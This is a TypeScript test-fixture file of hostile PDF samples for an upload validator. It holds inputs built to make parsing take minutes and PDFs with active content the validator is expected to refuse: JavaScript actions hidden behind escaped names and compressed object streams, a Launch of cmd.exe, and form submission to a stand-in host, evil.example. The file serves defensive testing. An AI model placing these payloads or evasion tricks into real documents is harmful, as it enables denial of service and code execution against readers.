import { limits } from '@ithaca/contracts/limits';
import { pdfOf } from '../sample-files.ts';
import { damaged, type HostileFile } from './hostile-file.ts';
import { objectStreamOf, objectStreamWith } from './pdf-objects.ts';

/** Repeats a part as often as fits, so that a search in more than linear time takes minutes. */
const fullOf = (part: string) => () => pdfOf(part.repeat(limits.uploadBytes / part.length - 100));

const action = '<</S/JavaScript/JS(app.alert(1))>>';
const activeContent = { refused: /script or other active content/ };

/** PDFs that are slow to search. */
export const endlessPdfs: HostileFile[] = [
  [
    'cv_document',
    'a PDF full of streams',
    'a.pdf',
    fullOf('>>stream\n'),
    { type: 'application/pdf' },
  ],
  ['cv_document', 'a PDF full of object streams', 'a.pdf', fullOf('/ObjStm>>stream\n'), damaged],
  ['cv_document', 'a PDF full of names', 'a.pdf', fullOf('/ObjStm/J#61vaScrip'), damaged],
  ['cv_document', 'a PDF full of dictionaries', 'a.pdf', fullOf('1 0 obj<</A'), damaged],
  ['cv_document', 'a PDF full of strings', 'a.pdf', fullOf('1 0 obj<</A('), damaged],
  ['cv_document', 'a PDF full of comments', 'a.pdf', fullOf('1 0 obj%'), damaged],
  [
    'cv_document',
    'a PDF full of dictionary keys',
    'a.pdf',
    fullOf('1 0 obj<</First>>stream\n'),
    damaged,
  ],
  [
    'cv_document',
    'a PDF full of small objects',
    'a.pdf',
    fullOf('1 0 obj<</A(b)>>endobj\n'),
    { type: 'application/pdf' },
  ],
];
/** PDFs that would run something when they are opened. */
export const activePdfs: HostileFile[] = [
  [
    'cv_document',
    'a PDF with JavaScript',
    'a.pdf',
    pdfOf(`4 0 obj\n${action}\nendobj\n`),
    activeContent,
  ],
  [
    'id_document',
    'an escaped name',
    'a.pdf',
    pdfOf('4 0 obj\n<</S/J#61va#53cript>>\nendobj\n'),
    activeContent,
  ],
  [
    'attachment',
    'compressed JavaScript',
    'a.pdf',
    pdfOf(objectStreamOf(`4 0 ${action}`)),
    activeContent,
  ],
  [
    'attachment',
    'an escaped stream',
    'a.pdf',
    pdfOf(objectStreamOf(`4 0 ${action}`, 'Obj#53tm')),
    activeContent,
  ],
  ...[
    ['a string', '/Type/ObjStm/Note(stream\nx)/N 1/First 4/Filter/FlateDecode'],
    [
      'a string with parentheses',
      '/Type/ObjStm/Note((\\()>>stream\n)/N 1/First 4/Filter/FlateDecode',
    ],
    ['a comment', '/Type/ObjStm%>>stream\n/N 1/First 4/Filter/FlateDecode'],
    ['a hexadecimal string', '/Note<stream>/N 1/First 4/Filter/FlateDecode'],
    ['a dictionary', '/Note<</First 4>>/N 1/First 4/Filter/FlateDecode'],
    ['another decoder', '/N 1/First 4/Filter[/FlateDecode/ASCIIHexDecode]'],
    ['a decoder elsewhere', '/N 1/First 4/Filter 5 0 R'],
    ['a predictor', '/N 1/First 4/Filter/FlateDecode/DecodeParms<</Predictor 12>>'],
    ['a file elsewhere', '/N 1/First 4/F(a.bin)'],
  ].map(
    ([what, dictionary]): HostileFile => [
      'attachment',
      `compressed objects behind ${what}`,
      'a.pdf',
      pdfOf(objectStreamWith(`${dictionary}`, `4 0 ${action}`)),
      damaged,
    ],
  ),
  ...[
    ['no type', '/N 1/First 4/Filter/FlateDecode'],
    ['no type and an escaped key', '/N 1/Fir#73t 4/Filter[/FlateDecode]'],
  ].map(
    ([what, dictionary]): HostileFile => [
      'attachment',
      `compressed objects with ${what}`,
      'a.pdf',
      pdfOf(objectStreamWith(`${dictionary}`, `4 0 ${action}`)),
      activeContent,
    ],
  ),
  [
    'attachment',
    'compressed objects within a string',
    'a.pdf',
    pdfOf(
      '4 0 obj\n<</A(\n',
      objectStreamWith('/N 1/First 4/Filter/FlateDecode', `4 0 ${action}`),
      ')>>\nendobj\n',
    ),
    { refused: /damaged|active content/ },
  ],
  [
    'cv_document',
    'a PDF that starts a program',
    'a.pdf',
    pdfOf('<</S/Launch/F(cmd.exe)>>'),
    activeContent,
  ],
  ['cv_document', 'a PDF with a player', 'a.pdf', pdfOf('<</Subtype/RichMedia>>'), activeContent],
  ...[
    ['a form with scripts', '<</AcroForm<</Fields[]/XFA[(template) 5 0 R]>>>>'],
    ['a form with scripts in one stream', '<</AcroForm<</Fields[]/#58FA % form\n5 0 R>>>>'],
    ['an action that opens an embedded file', '<</OpenAction<</S/GoToE/T<</R/C/N(a.pdf)>>>>>>'],
    [
      'an action that opens a file on a network share',
      '<</OpenAction<</S/GoToR/F(\\\\\\\\evil\\\\a.pdf)>>>>',
    ],
    ['an action that sends a form', '<</OpenAction<</S/SubmitForm/F(https://evil.example)>>>>'],
    ['an action that imports data', '<</OpenAction<</S/ImportData/F(a.fdf)>>>>'],
  ].map(
    ([what, object]): HostileFile => [
      'cv_document',
      `a PDF with ${what}`,
      'a.pdf',
      pdfOf(`4 0 obj\n${object}\nendobj\n`),
      activeContent,
    ],
  ),
  [
    'cv_document',
    'a PDF with an embedded file that isn’t opened automatically',
    'a.pdf',
    pdfOf('4 0 obj\n<</Type/EmbeddedFile/Length 0>>stream\n\nendstream\nendobj\n'),
    { type: 'application/pdf' },
  ],
  [
    'cv_document',
    'a PDF with a password',
    'a.pdf',
    pdfOf('<</Encrypt 5 0 R>>'),
    { refused: /password/ },
  ],
  [
    'cv_document',
    'broken compressed objects',
    'a.pdf',
    pdfOf('<</Type/ObjStm>>\nstream\nxxx\nendstream'),
    damaged,
  ],
];
